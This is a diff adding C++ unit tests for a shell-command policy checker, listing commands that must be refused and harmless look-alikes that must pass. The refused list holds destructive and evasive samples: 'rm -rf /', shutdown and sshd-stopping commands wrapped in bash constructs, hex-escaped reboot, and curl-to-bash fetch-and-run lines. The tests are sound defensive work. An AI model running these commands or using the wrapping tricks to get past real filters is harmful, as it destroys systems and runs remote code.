@@ -57,6 +57,45 @@ TEST_CASE("safe look-alikes pass") {
   }
 }
 
+TEST_CASE("dangerous commands inside bash constructs are refused") {
+  const PolicyContext ctx;
+  const char* refused[] = {
+      "if true; then reboot; fi", "while :; do halt; done", "until false; do poweroff; done",
+      "for x in 1; do sed -i s/a/b/ /etc/default/grub; done", "f() { systemctl stop sshd; }; f",
+      "function g { init 6; }", "case $x in *) shutdown -h now;; esac", "readarray -t x < <(reboot)",
+      "diff <(ls) >(shutdown -h now)", "while read l; do :; done < <(systemctl stop ssh)", "echo $(( $(reboot) ))",
+      "(( $(halt) ))", "[[ -n $(poweroff) ]]", "echo ${x:-$(reboot)}", "cat <<EOF\n$(reboot)\nEOF",
+      "bash <<'EOF'\nsystemctl disable --now sshd\nEOF", "sh <<< 'rm -rf /'", "find /etc -exec reboot \\;",
+      "time { reboot; }", "coproc halt", "$'\\x72eboot'", "a=(\"$(halt)\")", "x=$(cat <<EOF\n)\nEOF\n); reboot",
+      "bash <(curl -s http://x/fix.sh)", "bash < <(curl -s http://x/fix.sh)", "source <(curl -s http://x/f)",
+      "if true; then ls", "echo $(case x in a) ls;;)", "[[ -n x", "echo (x)",
+  };
+  for (const char* cmd : refused) {
+    INFO(cmd);
+    Status s = CheckCommand(cmd, ctx);
+    CHECK(s.code() == StatusCode::kPermissionDenied);
+    CHECK_THAT(s.message(), Catch::StartsWith("refused by policy"));
+  }
+}
+
+TEST_CASE("data inside bash constructs is not a command") {
+  const PolicyContext ctx;
+  const char* allowed[] = {
+      "cat >> /etc/audit/rules.d/stig.rules <<EOF\n-w /sbin/reboot -p x -k power\n-w /sbin/shutdown -p x -k power\nEOF",
+      "cat > /etc/issue <<'EOF'\n$(reboot)\nEOF", "cat <<-EOF\n\treboot\n\tEOF", "grep -q reboot <<< \"$x\"",
+      "[[ $x =~ (reboot|halt) ]] && echo match", "[[ $a < $b ]]", "case $a in reboot|halt) echo no;; esac",
+      "for cmd in reboot halt; do echo $cmd; done", "readarray -t a < <(grep -l reboot /etc/x)",
+      "echo $(( 1 + (2 * 3) ))", "echo ${x//reboot/halt} ${y:-)}", "bash /tmp/fix.sh <<EOF\nreboot\nEOF",
+      "f() { grep reboot /etc/x; }; f", "# reboot\nls", "echo a#reboot",
+  };
+  for (const char* cmd : allowed) {
+    INFO(cmd);
+    Status s = CheckCommand(cmd, ctx);
+    CHECK(s.ok());
+    if (!s.ok()) WARN(s.message());
+  }
+}
+
 TEST_CASE("bootloader edits are allowed only for bootloader rules") {
   PolicyContext grub{.bootloader_rule = true};
   CHECK(CheckCommand("sed -i 's/quiet/quiet audit=1/' /etc/default/grub", grub).ok());
